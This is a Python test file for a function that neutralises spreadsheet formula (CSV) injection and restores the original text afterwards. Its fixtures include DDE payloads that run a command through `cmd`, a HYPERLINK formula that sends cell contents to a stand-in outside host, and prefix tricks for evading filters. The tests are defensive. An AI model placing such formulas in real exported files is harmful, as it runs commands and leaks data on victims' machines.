"""No text that leaves in a spreadsheet is a formula there, and each comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.files.plain import BEGINNINGS, original, plain

FORMULAS = (
    '=HYPERLINK("http://elsewhere.example/?"&A1;"Détails")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001 - the full-width sign is what is tried
)

texts = st.text(alphabet=st.sampled_from("=+-@'\t\r\n \"aé1;,|\u00a0"), max_size=8) | st.text(max_size=20)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_leaves_as_a_text(formula: str) -> None:
    assert plain(formula) == f"'{formula}"
    assert original(plain(formula)) == formula


@given(texts)
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert original(plain(text)) == text
    assert not plain(text).startswith(BEGINNINGS)


@given(st.lists(texts, min_size=1, max_size=4))
def test_so_it_does_through_a_file(cells: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=";").writerow([plain(cell) for cell in cells])
    written.seek(0)
    (read,) = csv.reader(written, delimiter=";")
    assert [original(cell) for cell in read] == cells


@given(st.text(alphabet="abcdé «»,;'’", min_size=1))
def test_what_people_write_is_left_alone(text: str) -> None:
    assert plain(text) == (f"'{text}" if text.startswith("'") else text)
